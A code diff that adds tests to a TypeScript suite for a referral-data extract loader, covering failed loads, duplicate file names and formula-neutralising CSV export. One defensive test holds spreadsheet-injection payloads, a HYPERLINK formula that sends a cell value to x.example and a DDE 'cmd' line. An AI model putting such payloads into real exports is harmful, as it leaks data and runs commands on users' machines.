@@ -158,6 +158,52 @@ describe('replacing the previous extract', () => {
     expect(r.missingRequired).toEqual(['referrals']);
     expect(await engine.query('SELECT referral_id FROM referrals')).toEqual([{ referral_id: 'R1' }]);
   });
+
+  it('a load whose referrals are all rejected, or only a header, leaves the previous extract in use', async () => {
+    await loadExtract(engine, FULL, TODAY);
+    const before = await tableNames(engine);
+    const all = await loadExtract(engine, [FULL[0]!, file('referrals.csv', RH + 'R7,C1,bad,police,yes,,,\n')], TODAY);
+    expect(all.replaced).toBe(false);
+    expect(all.failure).toBe('No referral was loaded: all 1 rows of referrals were rejected (see the problems below).');
+    expect(all.tables.referrals).toMatchObject({ read: 1, loaded: 0, rejected: 1 });
+    const header = await loadExtract(engine, [file('referrals.csv', RH)], TODAY);
+    expect(header.replaced).toBe(false);
+    expect(header.failure).toBe('No referral was loaded: the referrals file has a header but no rows.');
+    expect(await tableNames(engine)).toEqual(before);
+    expect(await engine.query('SELECT referral_id FROM referrals ORDER BY 1')).toEqual([{ referral_id: 'R1' }]);
+  });
+
+  it('two files with the same name are refused together, naming them, and the previous extract stays', async () => {
+    await loadExtract(engine, FULL, TODAY);
+    const before = await tableNames(engine);
+    const r = await loadExtract(
+      engine,
+      [
+        file('north/referrals.csv', RH + 'R7,C1,2024-01-05,police,yes,,,\n'),
+        file('south/referrals.csv', RH + 'R8,C1,2024-01-05,police,yes,,,\n'),
+        FULL[0]!
+      ],
+      TODAY
+    );
+    expect(r.replaced).toBe(false);
+    expect(r.refused).toEqual([
+      {
+        file: 'referrals.csv',
+        reason:
+          'referrals.csv refused: the load holds more than one file of this name (north/referrals.csv, south/referrals.csv). Rename each as a part of its table (e.g. referrals.north.csv) and load them again.'
+      }
+    ]);
+    expect(r.failure).toBe(
+      'More than one file named referrals.csv was chosen: they were refused together and nothing of this load was used. Rename one as a part (e.g. referrals.north.csv) and load again.'
+    );
+    // the browser gives base names only: the two are still named
+    const same = await loadExtract(engine, [file('referrals.csv', RH), file('referrals.csv', RH)], TODAY);
+    expect(same.refused.map((x) => x.reason)).toEqual([
+      'referrals.csv refused: the load holds more than one file of this name (2 files named referrals.csv). Rename each as a part of its table (e.g. referrals.north.csv) and load them again.'
+    ]);
+    expect(await tableNames(engine)).toEqual(before);
+    expect(await engine.query('SELECT referral_id FROM referrals ORDER BY 1')).toEqual([{ referral_id: 'R1' }]);
+  });
 });
 
 describe('rejected rows as CSV', () => {
@@ -181,6 +227,30 @@ describe('rejected rows as CSV', () => {
         'referrals.csv,4,R3,C3,31/02/2024,martians,yes,,"a, b",,"referral_date: not a real calendar date; referrer_agency: not one of the accepted values (police, health, education, early_years, social_care, early_help, housing, voluntary, public, anonymous, other, unknown)"\r\n'
     );
     expect(await rejectedRowsCsv(engine, 'children')).toBe('');
+  });
+});
+
+describe('rejected rows CSV', () => {
+  it('neutralises every cell that begins like a formula', async () => {
+    const rows =
+      'R1,C1,2024-01-05,police,maybe,,"=HYPERLINK(""http://x.example/?""&A1,""click"")",\n' +
+      "R2,C2,+cmd|' /C calc'!A0,police,yes,,,\n" +
+      'R3,C3,2024-01-05,@SUM(1+1),yes,,,\n' +
+      'R4,C4,-2,police,yes,,,\n' +
+      'R5,C5,2024-01-05,police,yes,,,\n';
+    await loadExtract(engine, [file('referrals.csv', RH + rows)], TODAY);
+    const csv = await rejectedRowsCsv(engine, 'referrals');
+    const lines = csv.split('\r\n');
+    expect(lines[1]).toBe(
+      `referrals.csv,2,R1,C1,2024-01-05,police,maybe,,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",,"neglect_concern: not true/false, yes/no, y/n or 1/0"`
+    );
+    expect(lines[2]).toBe(
+      `referrals.csv,3,R2,C2,'+cmd|' /C calc'!A0,police,yes,,,,referral_date: not a date: use YYYY-MM-DD or DD/MM/YYYY`
+    );
+    expect(lines[3]).toMatch(/^referrals\.csv,4,R3,C3,2024-01-05,'@SUM\(1\+1\),yes,,,,"referrer_agency: not one of/);
+    expect(lines[4]).toBe(`referrals.csv,5,R4,C4,'-2,police,yes,,,,referral_date: not a date: use YYYY-MM-DD or DD/MM/YYYY`);
+    // no cell of any line starts a formula
+    for (const line of lines) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r-]/);
   });
 });
 
